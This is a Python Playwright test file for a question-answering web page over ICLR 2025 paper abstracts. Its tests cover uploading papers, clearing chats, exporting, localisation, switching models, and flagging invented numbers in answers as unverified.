    engine = Engine(Settings(data_dir=tmp_path / "index", port=free_port()), serving=True)
    engine.ingest([SEEDS])
    upload = tmp_path / "mine.jsonl"
    upload.write_text("".join(json.dumps({"id": f"own-{i}", "title": f"Own paper {i}",
                                          "abstract": f"Our own study number {i}: {text}"}) + "\n"
                              for i, text in enumerate(seed_paragraphs("000_99312b63f56aee43.txt")[:12])))
    demo = launch(engine, block=False)
    try:
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        context.add_init_script("""
window.__added = [];
new MutationObserver(() => {
  const shown = document.querySelector('#added');
  const text = shown ? shown.innerText.trim() : '';
  if (text && window.__added[window.__added.length - 1] !== text) window.__added.push(text);
}).observe(document, {subtree: true, childList: true, characterData: true});
""")
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{engine.settings.port}/")
        page.wait_for_selector("#question textarea")
        assert page.evaluate("window.scrollY") == 0
        with page.expect_file_chooser() as chooser:
            page.click("#add-papers")
        chooser.value.set_files(str(upload))
        page.wait_for_function("document.querySelector('#added').innerText.includes('Added papers')",
                               timeout=120_000)
        assert "added 12" in page.inner_text("#added")
        seen = " | ".join(page.evaluate("window.__added"))
        assert "Embedding 4 of 12 papers" in seen or "Embedding 8 of 12 papers" in seen, seen
        page.wait_for_timeout(500)
        box = page.evaluate("(() => { const r = document.querySelector('#added').getBoundingClientRect(); "
                            "return [r.top, r.bottom, window.innerHeight]; })()")
        assert box[0] >= 0 and box[1] <= box[2], box  # the report is on the screen
        context.close()
    finally:
        demo.close()


def test_the_chats_trash_icon_starts_a_new_conversation_like_the_button(page, app):
    """Clearing with the chat's own icon resets the answers too: feedback, export and the sources panel then
    speak of the new question only."""
    feedback = app[1].settings.data_dir / "feedback.jsonl"
    ask(page, SAE)
    page.locator('#chat button[aria-label="Clear"]').click()
    page.wait_for_function("document.querySelectorAll('#chat [data-testid=bot]').length == 0")
    ask(page, "zebra stripes and biting flies")
    assert "Sources of answer 1" in page.inner_text("#sources h3")
    before = len(feedback.read_text().splitlines()) if feedback.exists() else 0
    page.locator('#chat button[aria-label="Dislike"]').last.click()
    deadline = time.time() + 10
    while time.time() < deadline and (len(feedback.read_text().splitlines()) if feedback.exists() else 0) == before:
        time.sleep(0.1)
    line = json.loads(feedback.read_text().splitlines()[-1])
    assert line["question"] == "zebra stripes and biting flies" and line["helpful"] is False
    toast = page.locator(".toast-body").first
    toast.wait_for(timeout=5_000)
    box, card = toast.bounding_box(), page.locator("#sources .src-card").first.bounding_box()
    assert box["x"] + box["width"] <= card["x"] or box["y"] >= card["y"] + card["height"]  # not over the cards
    with page.expect_download() as download:
        page.click("#export-md")
    markdown = download.value.path().read_text(encoding="utf-8")
    assert "## Q1: zebra stripes" in markdown and "Q2" not in markdown and "sparse autoencoders" not in markdown


def test_bold_text_comes_from_a_whole_bold_face_not_gradios_55_glyph_semibold(page):
    # A newcomer's screenshot: "CʙQ: Cross-Bʟock" in a card title, the letters of Gradio's SemiBold subset beside a
    # fallback font's. The theme asks for Source Sans Pro at 400 and 700 (rag.web.app.THEME), served from Gradio's
    # own files: nothing is fetched from elsewhere.
    ask(page, "zebra stripes and biting flies")
    faces = page.evaluate("[...document.fonts].filter(f => f.family.includes('Source Sans Pro'))"
                          ".map(f => [f.weight, f.status])")
    weights = {w for w, _ in faces}
    assert "700" in weights and "600" not in weights, faces
    assert all(status == "loaded" for w, status in faces if w == "700"), faces


def test_asking_with_an_empty_box_adds_nothing_to_the_chat_and_says_to_type_a_question(page):
    # A newcomer's click on Ask with nothing typed added an empty question and an error reply with feedback buttons.
    page.click("#ask")
    page.locator(".toast-body", has_text="Type a question first.").wait_for(timeout=10_000)
    page.fill("#question textarea", "   ")
    page.press("#question textarea", "Enter")
    time.sleep(1)
    assert page.locator("#chat [data-testid=user]").count() == 0
    assert page.locator("#chat [data-testid=bot]").count() == 0


def test_a_refusal_lists_the_nearest_papers_as_links_to_their_cards(page):
    ask(page, "What is the best recipe for sourdough bread?")
    answer = page.locator("#chat [data-testid=bot]").last
    assert "Not covered by the collection" in answer.inner_text() and "Nearest papers:" in answer.inner_text()
    assert answer.locator('a[href="#src-0-1"]').count() >= 1
    assert answer.locator('a[href^="https://openreview.net/forum?id="]').count() >= 1


def test_cards_show_tex_and_emphasis_as_text_all_authors_and_highlight_only_content_words(page):
    ask(page, "Which papers use the BRAID guidance for wombat pose estimation?")
    card = page.locator("#src-0-1")
    text = card.inner_text()
    assert "Training-Free Guidance with BRAID for ℓ_p Robustness" in text
    assert "**" not in text and "$" not in text and "texttt" not in text
    assert "Authors (order not known): Author Number1" in text and "(+2)" in text
    assert "Author Number10" not in card.locator(".src-meta").inner_text().split("(+2)")[0]
    card.locator(".src-authors summary").click()
    assert "Author Number10" in card.inner_text()
    marked = [m.lower() for m in card.locator(".src-snippet mark").all_inner_texts()]
    assert marked and "wombat" in marked and not {"which", "the", "use", "papers"} & set(marked)


def test_a_newcomers_path_through_the_page(browser, tmp_path):
    """What `make run` gives a newcomer, as one path: the seeds ingested by the CLI, `rag serve` started as a
    process, then ask, filter, follow up, export, start over. The README's screenshots come from here
    (UPDATE_SCREENSHOTS=1 writes them to docs/)."""
    import subprocess

    from helpers import rag_cmd, wait_for_page

    data, port = tmp_path / "index", free_port()
    subprocess.run(rag_cmd("ingest", "--if-empty", "-q", str(SEEDS), data_dir=data), cwd=ROOT, check=True,
                   capture_output=True, timeout=600)
    server = subprocess.Popen(rag_cmd("serve", data_dir=data, port=port), cwd=ROOT, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT)
    try:
        wait_for_page(f"http://127.0.0.1:{port}/", server)
        page = browser.new_page(viewport={"width": 1400, "height": 900})
        page.goto(f"http://127.0.0.1:{port}/")
        page.wait_for_selector("#question textarea")
        assert "Extractive — no LLM configured" in page.inner_text("#header")
        assert page.get_by_text("Is there work on making sparse autoencoders").count()  # the examples show
        assert page.get_by_text("有哪些关于扩散模型的论文？").count()  # one in Chinese
        ask(page, SAE)
        card = page.locator("#src-0-1")
        assert "Efficient Dictionary Learning with Switch Sparse Autoencoders" in card.inner_text()
        assert card.locator('a[href^="https://openreview.net/forum?id="]').count() == 1
        assert "[1]" in last_answer(page)
        if os.environ.get("UPDATE_SCREENSHOTS"):
            page.screenshot(path=str(ROOT / "docs" / "screenshot.png"))
        ask(page, "What compute savings did they report?", answers_before=1)  # a follow-up
        assert "Switch Sparse Autoencoders" in page.inner_text("#src-1-1")
        page.get_by_label("Accept (Oral)").check()
        ask(page, "Which papers use diffusion models?", answers_before=2)
        badges = page.locator("#sources h3 ~ .src-card .badge").all_inner_texts()
        assert badges and set(badges) == {"Oral"}, badges
        with page.expect_download() as download:
            page.click("#export-md")
        markdown = download.value.path().read_text(encoding="utf-8")
        assert "## Q3: Which papers use diffusion models?" in markdown and "openreview.net" in markdown
        page.click("#clear")
        page.wait_for_function("document.querySelectorAll('#chat [data-testid=bot]').length == 0")
        assert "Sources of the latest answer appear here" in page.inner_text("#sources")
        page.get_by_text("Is there work on making sparse autoencoders").click()  # an example asks at once
        page.wait_for_function("document.querySelectorAll('#chat [data-testid=bot]').length == 1 && "
                               "document.querySelector('#sources h3')?.innerText.includes('answer 1')", timeout=90_000)
        assert "making sparse autoencoders" in page.locator("#chat [data-testid=user]").last.inner_text()
        assert "[1]" in last_answer(page)
        assert page.input_value("#question textarea") == ""  # asked, so the box is cleared as after Ask
        page.close()
    finally:
        server.terminate()
        server.wait(timeout=30)


def test_chinese_text_renders_in_a_cjk_font(page):
    """`make test` installs fonts-noto-cjk, so a Chinese question shows as characters, not boxes."""
    import subprocess

    assert "Noto" in subprocess.run(["fc-list", ":lang=zh", "family"], capture_output=True, text=True).stdout
    ask(page, "有哪些关于扩散模型的论文？")
    assert "有哪些关于扩散模型的论文？" in page.inner_text("#chat")
    widths = page.evaluate("""() => {  // a missing glyph is drawn as the same box for every character
        const c = document.createElement('canvas').getContext('2d'); c.font = '16px sans-serif';
        return ['扩', '散', '模', '型'].map(ch => c.measureText(ch).width); }""")
    assert min(widths) > 10


def test_a_session_picks_another_model_and_only_that_session_uses_it(page, browser, app, llm):
    # The picker is shown once the page has loaded the endpoint's models: wait for it (a busy machine is slow).
    page.locator("#model").wait_for(state="visible", timeout=30_000)
    page.locator("#model input").click()
    page.get_by_role("option", name="fake-chat-large").click()
    ask(page, SAE)
    assert llm.requested_models()[-1] == "fake-chat-large"
    assert "fake-chat-large (LLM)" in last_answer(page)
    other = browser.new_context().new_page()  # another browser session keeps the server's model
    other.goto(app[0] + "/")
    other.wait_for_selector("#question textarea")
    ask(other, SAE)
    assert llm.requested_models()[-1] == "fake-chat" and "fake-chat (LLM)" in last_answer(other)
    other.context.close()


def test_session_totals_and_costs_add_up_under_the_chat(page, llm):
    ask(page, SAE)
    ask(page, TIME_MOE_Q, answers_before=1)
    page.wait_for_function("document.querySelector('#session-totals').innerText.includes('2 answers')")
    line = page.locator("#session-totals").inner_text()
    assert "This session: 2 answers" in line and "tokens in" in line and "$0.00" in line
    assert "$0.00" in last_answer(page)  # each answer's own cost, in its footer
    page.click("#clear")
    page.wait_for_function("!document.querySelector('#session-totals').innerText.includes('answers')")


def test_an_invented_number_is_marked_quietly_and_the_answer_stands(page, llm):
    llm.mode = "invent"
    try:
        ask(page, SAE)
    finally:
        llm.mode = "normal"
    bot = page.locator("#chat [data-testid=bot]").last
    final = bot.inner_text()
    assert "fake-chat (LLM)" in final and "12,345 GPUs" in final and "The LLM could not answer" not in final
    mark = bot.locator("sup.unsupported")
    # after the invented sentence only (the quoted one is supported), and once more in its explanation below
    assert mark.count() == 2 and mark.all_inner_texts() == ["unverified", "unverified"]
    assert bot.inner_html().index("12,345") < bot.inner_html().index("unverified")
    assert "do not clearly support" in final


def test_a_filter_written_in_the_question_shows_as_a_chip_that_asks_again_without_it(page):
    ask(page, "Oral papers on time series")
    chip = page.locator("#chip-decisions")
    assert chip.is_visible() and chip.inner_text().strip() == "× Accept (Oral)"
    assert not page.locator("#chip-author").is_visible()
    assert "Searched: only Accept (Oral)" in last_answer(page)
    badges = page.locator("#sources .badge").all_inner_texts()  # the cards of this (the only) answer
    assert badges and set(badges) == {"Oral"}
    chip.click()
    page.wait_for_function("document.querySelector('#sources h3').innerText.includes('answer 2')", timeout=60_000)
    assert not page.locator("#chip-decisions").is_visible()
    assert "only Accept (Oral)" not in last_answer(page)
    assert page.locator("#chat [data-testid=user]").last.inner_text().strip() == "Oral papers on time series"


def test_which_orals_are_related_to_a_paper_shows_the_decision_chip_and_asks_again_without_it(page):
    ask(page, "Which orals are related to CatVTON?")
    assert "The oral papers nearest to “CatVTON" in last_answer(page)
    chip = page.locator("#chip-decisions")
    assert chip.is_visible() and chip.inner_text().strip() == "× Accept (Oral)"
    chip.click()
    page.wait_for_function("document.querySelector('#sources h3').innerText.includes('answer 2')", timeout=60_000)
    assert not page.locator("#chip-decisions").is_visible()
    assert "The papers nearest to “CatVTON" in last_answer(page)


def test_twenty_sources_come_five_at_a_time_behind_show_more(page):
    slider = page.locator("#k input[type=number]")
    slider.fill("20")
    slider.press("Enter")
    ask(page, "What can language models do with long inputs?")  # an explanation: all 20 retrieved are sources
    cards = page.locator("#sources .src-card")
    assert cards.count() == 20

    def shown() -> list[str]:
        return [cards.nth(i).get_attribute("id") for i in range(cards.count()) if cards.nth(i).is_visible()]

    first = shown()
    assert len(first) == 5
    more = page.locator("#sources .src-more > summary")
    assert more.first.inner_text().strip() == "Show 5 more sources (6–10 of 20)"
    more.first.click()
    assert len(shown()) == 10 and shown()[:5] == first and not more.first.is_visible()
    assert more.nth(1).inner_text().strip() == "Show 5 more sources (11–15 of 20)"
    # A [n] link to a card not yet shown (what a citation's click does) opens the pages down to it.
    last = cards.nth(19).get_attribute("id")
    page.evaluate(f"location.hash = '#{last}'")
    page.wait_for_function(f"document.getElementById('{last}').checkVisibility()", timeout=5_000)
    assert len(shown()) == 20


# What a Chinese browser reads on the page (rag.web.i18n), and what an English one still reads.
PAGE_LABELS = {
    "zh-CN": {"#ask": "提问", "#clear": "新对话", "#add-papers": "添加论文", "#export-md": "导出 Markdown",
              "#header": "向 ICLR 2025 论文摘要提问", "#author": "作者姓名包含", "#decision": "录用类型",
              "#k": "检索的论文数", "#sources": "最新回答的来源", "#map-panel": "论文集地图"},
    "en-US": {"#ask": "Ask", "#clear": "New conversation", "#add-papers": "Add papers",
              "#export-md": "Export Markdown", "#header": "Ask the ICLR 2025 abstracts",
              "#author": "Author name contains", "#decision": "Decision (none = all)", "#k": "Papers to retrieve",
              "#sources": "Sources of the latest answer", "#map-panel": "Map of the collection"},
}
OUTCOME_ZH = {"answered": "已根据论文回答", "unsure": "不确定", "not_covered": "论文集未涉及"}


@pytest.mark.parametrize("locale", ["zh-CN", "en-US"])
def test_the_page_speaks_the_browsers_language_and_paper_text_stays_as_written(browser, app, locale):
    context = browser.new_context(locale=locale, viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    try:
        page.goto(app[0] + "/")
        page.wait_for_selector("#question textarea")
        zh = locale.startswith("zh")
        for selector, text in PAGE_LABELS[locale].items():
            page.wait_for_function("([s, t]) => document.querySelector(s)?.innerText.includes(t)", arg=[selector, text],
                                   timeout=30_000)
        other = PAGE_LABELS["en-US" if zh else "zh-CN"]
        body = page.inner_text("body")
        assert not any(text in body for key, text in other.items() if key not in ("#ask", "#export-md")), body
        assert page.get_attribute("#question textarea", "placeholder") == ("就这些论文提问…" if zh
                                                                           else "Ask about the papers…")
        assert "Filters" not in page.inner_text("body") if zh else "Filters" in page.inner_text("body")
        # The examples are in the browser's language (a newcomer found 4 of 5 English on the Chinese page).
        examples = ("有多少篇口头报告论文是关于图神经网络的？", "Is there work on making sparse autoencoders")
        mine, theirs = examples if zh else examples[::-1]
        page.wait_for_function("([m, o]) => document.body.innerText.includes(m) && !document.body.innerText"
                               ".includes(o)", arg=[mine, theirs], timeout=30_000)
        oral = "口头报告（Oral）" if zh else "Accept (Oral)"  # the filter's choices speak it too; the value stays
        assert oral in page.inner_text("#decision") and ("Accept (Oral)" in page.inner_text("#decision")) != zh
        page.fill("#question textarea", SAE)
        page.click("#ask")
        done = ["回答 1 的来源", "本次会话：1 个回答"] if zh else ["Sources of answer 1", "This session: 1 answer"]
        page.wait_for_function("([h, s]) => document.querySelector('#sources h3')?.innerText.includes(h) && "
                               "document.querySelector('#session-totals').innerText.includes(s)", arg=done,
                               timeout=90_000)
        badge = page.locator("#chat [data-testid=bot] .outcome").last
        outcome = next(c.removeprefix("outcome-") for c in (badge.get_attribute("class") or "").split()
                       if c.startswith("outcome-"))
        label = badge.inner_text()
        assert label.startswith(OUTCOME_ZH[outcome] if zh else SERVER_WORDS[f"outcome_{outcome}"][0]), label
        # The paper's own title stays as written, in English, in a Chinese page too; the card's words follow.
        cards = page.inner_text("#sources")
        assert "Efficient Dictionary Learning with Switch Sparse Autoencoders" in cards
        assert ("摘要" in cards and ("得分" in cards or "匹配度" in cards)) if zh else "Abstract" in cards, cards
        page.click("#clear")
        page.wait_for_function("([t]) => document.querySelector('#sources .src-empty')?.innerText.includes(t)",
                               arg=[PAGE_LABELS[locale]["#sources"]], timeout=30_000)
        page.get_by_text(mine).click()  # an example of the page's language asks at once, as the English ones do
        page.wait_for_function("([h, q]) => document.querySelector('#sources h3')?.innerText.includes(h) && "
                               "document.querySelector('#chat').innerText.includes(q)",
                               arg=[done[0], mine], timeout=90_000)
    finally:
        context.close()


def test_a_list_shows_its_first_papers_and_the_rest_one_click_away(page, monkeypatch):
    """Issue 52: a topic's list shows its first papers and "Show N more papers" opens the rest; the count in its
    first line is the whole list's. (LIST_SHOWN lowered: the seeds' lists are short.)"""
    import rag.web.render as render

    monkeypatch.setattr(render, "LIST_SHOWN", 2)
    ask(page, "What work is there on diffusion models?")
    bot = page.locator("#chat [data-testid=bot]").last
    head = bot.inner_text()
    n = int(re.search(r"(\d+) papers on diffusion models:", head).group(1))
    assert n >= 4, head
    more = bot.locator("details.list-more")
    assert more.count() == 1 and more.locator("summary").inner_text() == f"Show {n - 2} more papers"
    hidden = more.locator("a").first  # a [n] link of the third paper, folded away
    assert not hidden.is_visible()
    more.locator("summary").click()
    assert hidden.is_visible() and more.locator("a").count() == n - 2
